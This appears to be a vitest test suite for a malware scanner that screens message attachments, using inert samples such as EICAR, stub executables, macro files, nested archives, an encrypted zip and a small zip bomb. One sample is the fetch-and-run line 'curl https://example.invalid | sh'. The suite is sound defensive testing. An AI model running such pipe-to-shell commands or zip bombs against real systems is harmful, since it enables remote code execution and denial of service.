// The built-in scanner against crafted samples, and the limits every scanner runs under. Archives are made by
// Python's zipfile and tarfile, so the parser is tested against a real writer rather than one written beside it.
import { execFileSync } from "node:child_process";
import { gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { createBuiltinScanner, DEFAULT_BUILTIN_LIMITS, EICAR } from "../../src/scanning/builtin.js";
import { ConfigError, loadConfig } from "../../src/config.js";
import { findFreePort } from "../../src/runtime/free-port.js";
import { createScanner, withLimits } from "../../src/scanning/configured-scanner.js";
import { worstScanState, type ScanMeta, type ScanState, type Scanner } from "../../src/scanning/scanner.js";

const scanner = createBuiltinScanner();
const scan = (content: Buffer | string, filename = "attachment.bin", contentType = "application/octet-stream") =>
  scanner.scan(Buffer.from(content), { filename, contentType });

type Entries = readonly (readonly [name: string, content: Buffer | string])[];

const ARCHIVE_PY = `
import base64, io, json, sys, tarfile, zipfile
spec = json.load(sys.stdin)
out = io.BytesIO()
if spec["kind"] == "zip":
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in spec["entries"]:
            z.writestr(name, base64.b64decode(data))
else:
    with tarfile.open(fileobj=out, mode="w:gz" if spec["kind"] == "tgz" else "w") as t:
        for name, data in spec["entries"]:
            data = base64.b64decode(data)
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
sys.stdout.buffer.write(out.getvalue())
`;

function archive(kind: "zip" | "tar" | "tgz", entries: Entries): Buffer {
  const input = JSON.stringify({ kind, entries: entries.map(([name, content]) => [name, Buffer.from(content).toString("base64")]) });
  return execFileSync("python3", ["-c", ARCHIVE_PY], { input, maxBuffer: 64 * 1024 * 1024 });
}

/** Sets the "encrypted" flag (bit 0) of every member, in the local and the central headers. */
function markEncrypted(zip: Buffer): Buffer {
  const out = Buffer.from(zip);
  for (let i = 0; i + 4 <= out.byteLength; i++) {
    const signature = out.readUInt32LE(i);
    if (signature === 0x04034b50) out.writeUInt16LE(out.readUInt16LE(i + 6) | 1, i + 6);
    if (signature === 0x02014b50) out.writeUInt16LE(out.readUInt16LE(i + 8) | 1, i + 8);
  }
  return out;
}

/** A DOS stub whose e_lfanew points at a PE signature and a COFF header for x86-64. */
function peExecutable(): Buffer {
  const pe = Buffer.alloc(256);
  pe.write("MZ", 0, "latin1");
  pe.writeUInt32LE(0x80, 0x3c);
  pe.write("PE\0\0", 0x80, "latin1");
  pe.writeUInt16LE(0x8664, 0x84);
  return pe;
}

const ELF = Buffer.concat([Buffer.from("7f454c46020101000000000000000000", "hex"), Buffer.alloc(48)]);
const MACH_O = Buffer.concat([Buffer.from("cffaedfe07000001", "hex"), Buffer.alloc(24)]);
/** A Java class file: 0xCAFEBABE, minor 0, major 65 (Java 21). */
const JAVA_CLASS = Buffer.concat([Buffer.from("cafebabe00000041", "hex"), Buffer.alloc(16)]);
/** An OLE2 compound file whose directory names a `_VBA_PROJECT` stream (UTF-16LE), as Word 97-2003 macros do. */
const OLE2_WITH_VBA = Buffer.concat([
  Buffer.from("d0cf11e0a1b11ae1", "hex"),
  Buffer.alloc(504),
  Buffer.from("_VBA_PROJECT", "utf16le"),
  Buffer.alloc(64),
]);
const PDF = "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";
const PNG = Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489", "hex");

describe("the built-in scanner", () => {
  test.each([
    ["the EICAR test file", EICAR, "eicar.txt", "EICAR-Test-File"],
    ["the EICAR string inside other content", Buffer.concat([Buffer.from("Dear agent,\r\n"), EICAR, Buffer.from("\r\n")]), "note.txt", "EICAR-Test-File"],
    ["a Windows PE executable under an innocent name", peExecutable(), "invoice.pdf", "Executable.Windows"],
    ["an ELF executable", ELF, "data.bin", "Executable.ELF"],
    ["a Mach-O executable", MACH_O, "data.bin", "Executable.MachO"],
    ["a Java class", JAVA_CLASS, "Main.class", "Executable.JavaClass"],
    ["a shebang script", "#!/bin/sh\ncurl https://example.invalid | sh\n", "notes.txt", "Script.Shebang"],
    ["a binary Office file with a VBA project", OLE2_WITH_VBA, "report.doc", "Macro.OLE2"],
  ])("flags %s by its content", async (_, content, filename, finding) => {
    expect(await scan(content, filename)).toEqual({ state: "infected", finding });
  });

  test.each([
    ["invoice.js", "text/plain", "Script.Extension"],
    ["INVOICE.JSE", "text/plain", "Script.Extension"],
    ["update.vbs", "text/plain", "Script.Extension"],
    ["setup.ps1", "text/plain", "Script.Extension"],
    ["run.bat", "text/plain", "Script.Extension"],
    ["run.cmd", "text/plain", "Script.Extension"],
    ["page.hta", "text/html", "Script.Extension"],
    ["job.wsf", "text/xml", "Script.Extension"],
    ["run.js. ", "text/plain", "Script.Extension"],
    ["notes.txt", "text/javascript", "Script.ContentType"],
    ["notes.txt", "application/x-sh; charset=utf-8", "Script.ContentType"],
    ["invoice.pdf.exe", "application/pdf", "Executable.Extension"],
    ["photo.jpg", "application/x-msdownload", "Executable.ContentType"],
    ["budget.xlsm", "application/octet-stream", "Macro.Extension"],
    ["slides.pptm", "application/octet-stream", "Macro.Extension"],
    ["letter.bin", "application/vnd.ms-word.document.macroEnabled.12", "Macro.ContentType"],
  ])("flags %s declared as %s by what the sender declared", async (filename, contentType, finding) => {
    expect(await scan("harmless-looking text\n", filename, contentType)).toEqual({ state: "infected", finding });
  });

  test("flags an Office Open XML document that carries vbaProject.bin, as saved by a macro-enabled Office", async () => {
    const docm = archive("zip", [
      ["[Content_Types].xml", "<Types/>"],
      ["word/document.xml", "<w:document/>"],
      ["word/vbaProject.bin", OLE2_WITH_VBA],
    ]);
    expect(await scan(docm, "contract.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")).toEqual({
      state: "infected",
      finding: "Macro.OOXML in word/vbaProject.bin",
    });
  });

  test.each([
    ["plain text", "Hello, agent. The meeting moved to 3pm.\n", "note.txt", "text/plain"],
    ["a PDF", PDF, "report.pdf", "application/pdf"],
    ["a PNG image", PNG, "pixel.png", "image/png"],
    ["an empty file", "", "empty.txt", "text/plain"],
    ["a CSV that mentions .exe files", "name,size\nsetup.exe,100\n", "files.csv", "text/csv"],
    ["text that happens to start with MZ", "MZ-2 hiking notes: ".repeat(10), "trip.txt", "text/plain"],
    ["text that happens to start with #!", "#!important: call back\n", "todo.txt", "text/plain"],
  ])("passes %s as clean", async (_, content, filename, contentType) => {
    expect(await scan(content, filename, contentType)).toEqual({ state: "clean" });
  });

  test("passes an Office Open XML document without macros as clean", async () => {
    const docx = archive("zip", [
      ["[Content_Types].xml", "<Types/>"],
      ["word/document.xml", "<w:document><w:body>Quarterly numbers</w:body></w:document>"],
    ]);
    expect(await scan(docx, "report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")).toEqual({ state: "clean" });
  });

  test.each([
    ["an executable named in a zip", () => archive("zip", [["readme.txt", "read me"], ["setup.exe", "not even a real exe"]]), "files.zip", "Executable.Extension in setup.exe"],
    ["a PE executable renamed inside a zip", () => archive("zip", [["readme.txt", peExecutable()]]), "files.zip", "Executable.Windows in readme.txt"],
    ["EICAR two zips deep", () => archive("zip", [["inner.zip", archive("zip", [["eicar.txt", EICAR]])]]), "outer.zip", "EICAR-Test-File in inner.zip/eicar.txt"],
    ["a script in a tar", () => archive("tar", [["docs/a.txt", "a"], ["docs/b.txt", "#!/usr/bin/env python3\n"]]), "docs.tar", "Script.Shebang in docs/b.txt"],
    ["EICAR in a gzip file", () => gzipSync(EICAR), "sample.txt.gz", "EICAR-Test-File in sample.txt"],
    ["a script in a tar.gz", () => archive("tgz", [["tools/install.ps1", "Write-Host hi"]]), "tools.tgz", "Script.Extension in tools.tar/tools/install.ps1"],
  ])("looks into archives and flags %s", async (_, make, filename, finding) => {
    expect(await scan(make(), filename)).toEqual({ state: "infected", finding });
  });

  test.each([
    ["a rar archive", Buffer.concat([Buffer.from("Rar!\x1a\x07\x01\x00", "latin1"), Buffer.alloc(32)]), /cannot look into rar archives/],
    ["a 7z archive", Buffer.concat([Buffer.from("377abcaf271c0004", "hex"), Buffer.alloc(32)]), /cannot look into 7z archives/],
    ["an encrypted zip member", markEncrypted(archive("zip", [["secret.txt", "hidden"]])), /encrypted zip member secret\.txt/],
    ["a truncated zip", archive("zip", [["a.txt", "a".repeat(1000)]]).subarray(0, 60), /zip archive without its central directory/],
    [
      "archives nested deeper than three levels",
      archive("zip", [["1.zip", archive("zip", [["2.zip", archive("zip", [["3.zip", archive("zip", [["x.txt", "x"]])]])]])]]),
      /archives nested deeper than 3 levels \(1\.zip\/2\.zip\/3\.zip\)/,
    ],
  ])("answers error, never clean, for %s", async (_, content, reason) => {
    const verdict = await scan(content, "archive.bin");
    expect(verdict.state).toBe("error");
    expect(verdict.state === "error" && verdict.reason).toMatch(reason);
    expect(verdict.state === "error" && verdict.reason).toMatch(/^built-in scanner: /);
  });

  test("answers error for an archive that expands beyond its limit (a zip bomb)", async () => {
    const small = createBuiltinScanner({ ...DEFAULT_BUILTIN_LIMITS, maxExpandedBytes: 1024 * 1024 });
    const bomb = archive("zip", [["zeros.txt", Buffer.alloc(4 * 1024 * 1024)]]);
    expect(bomb.byteLength).toBeLessThan(10_000);
    const verdict = await small.scan(bomb, { filename: "bomb.zip", contentType: "application/zip" });
    expect(verdict).toEqual({ state: "error", reason: "built-in scanner: archive members expanding beyond the scanner's limit (zeros.txt)" });
  });

  test("answers error for an archive with more members than it opens", async () => {
    const small = createBuiltinScanner({ ...DEFAULT_BUILTIN_LIMITS, maxEntries: 5 });
    const many = archive("zip", Array.from({ length: 6 }, (_, i) => [`${i}.txt`, "x"] as const));
    expect(await small.scan(many, { filename: "many.zip", contentType: "application/zip" })).toMatchObject({ state: "error" });
  });

  test("reports an infected member even when another member cannot be opened", async () => {
    const zip = archive("zip", [["locked.zip", markEncrypted(archive("zip", [["a.txt", "a"]]))], ["payload.txt", EICAR]]);
    expect(await scan(zip, "mixed.zip")).toEqual({ state: "infected", finding: "EICAR-Test-File in payload.txt" });
  });
});

describe("scan limits", () => {
  const meta: ScanMeta = { filename: "a.txt", contentType: "text/plain" };
  const clean: Scanner = { scan: async () => ({ state: "clean" }) };

  test("answers error without scanning content larger than the limit", async () => {
    let called = false;
    const engine: Scanner = { scan: async () => ((called = true), { state: "clean" }) };
    const verdict = await withLimits(engine, { timeoutMs: 1000, maxBytes: 10 }).scan(Buffer.alloc(11), meta);
    expect(verdict).toEqual({ state: "error", reason: "11 bytes exceed the scan limit of 10" });
    expect(called).toBe(false);
  });

  test("answers error when the engine takes longer than the timeout", async () => {
    const slow: Scanner = { scan: () => new Promise((resolve) => setTimeout(() => resolve({ state: "clean" }), 2000)) };
    expect(await withLimits(slow, { timeoutMs: 50, maxBytes: 100 }).scan(Buffer.from("x"), meta)).toEqual({
      state: "error",
      reason: "scan took longer than 50 ms",
    });
  });

  test("answers error when the engine throws", async () => {
    const broken: Scanner = { scan: async () => Promise.reject(new Error("engine crashed")) };
    expect(await withLimits(broken, { timeoutMs: 1000, maxBytes: 100 }).scan(Buffer.from("x"), meta)).toEqual({
      state: "error",
      reason: "scanner failed: engine crashed",
    });
  });

  test("passes a clean verdict through within the limits", async () => {
    expect(await withLimits(clean, { timeoutMs: 1000, maxBytes: 1 }).scan(Buffer.from("x"), meta)).toEqual({ state: "clean" });
  });
});

describe("a message's attachments scan state", () => {
  test.each<[ScanState[], ScanState]>([
    [["clean", "clean"], "clean"],
    [["clean", "unscanned"], "unscanned"],
    [["unscanned", "error", "clean"], "error"],
    [["error", "infected", "clean"], "infected"],
    [["infected", "unscanned"], "infected"],
  ])("of %j is %s (the worst wins)", (states, worst) => {
    expect(worstScanState(states)).toBe(worst);
  });
});

describe("scanning configuration", () => {
  test("uses the built-in scanner with a 60 s timeout and a 25 MiB limit when nothing is set, an error retried from 2 s on", async () => {
    const { scanning } = loadConfig({});
    expect(scanning).toEqual({ clamdAddress: undefined, timeoutMs: 60_000, maxBytes: 25 * 1024 * 1024, errorRetryInitialMs: 2000 });
    expect(await createScanner(scanning).scan(EICAR, { filename: "a.txt", contentType: "text/plain" })).toEqual({
      state: "infected",
      finding: "EICAR-Test-File",
    });
  });

  test("uses clamd at CLAMD_ADDRESS, and an unreachable clamd is an error verdict", async () => {
    const { scanning } = loadConfig({ CLAMD_ADDRESS: `127.0.0.1:${await findFreePort()}`, SCAN_TIMEOUT_MS: "1000" });
    const verdict = await createScanner(scanning).scan(EICAR, { filename: "a.txt", contentType: "text/plain" });
    expect(verdict.state === "error" && verdict.reason).toMatch(/^clamd at 127\.0\.0\.1:\d+: /);
  });

  test.each(["localhost", "tcp://127.0.0.1:3310", "unix:clamd.ctl"])("refuses CLAMD_ADDRESS=%s", (address) => {
    expect(() => loadConfig({ CLAMD_ADDRESS: address })).toThrow(ConfigError);
  });

  test.each(["127.0.0.1:3310", "[::1]:3310", "unix:/run/clamav/clamd.ctl"])("accepts CLAMD_ADDRESS=%s", (address) => {
    expect(loadConfig({ CLAMD_ADDRESS: address }).scanning.clamdAddress).toBe(address);
  });
});
